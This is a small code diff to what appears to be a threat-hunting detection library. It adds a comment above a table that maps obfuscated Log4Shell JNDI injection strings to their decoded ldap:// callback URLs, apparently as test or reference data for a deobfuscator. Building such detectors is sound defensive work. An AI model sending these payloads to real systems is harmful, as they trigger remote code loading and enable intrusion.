@@ -10,6 +10,7 @@ from sparkhunt.functions.rules import score_rules
 from sparkhunt.names import c
 from sparkhunt.plans.process_scoring import suspicious_process_score
 
+# Published examples and their results.
 RESOLVED = {
     "${jNdi:${lower:L}${lower:d}a${lower:p}://world80.log4j.bin${upper:a}ryedge.io:80/callback}": "ldap://world80.log4j.binaryedge.io:80/callback",
     "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://example.com}": "ldap://example.com",
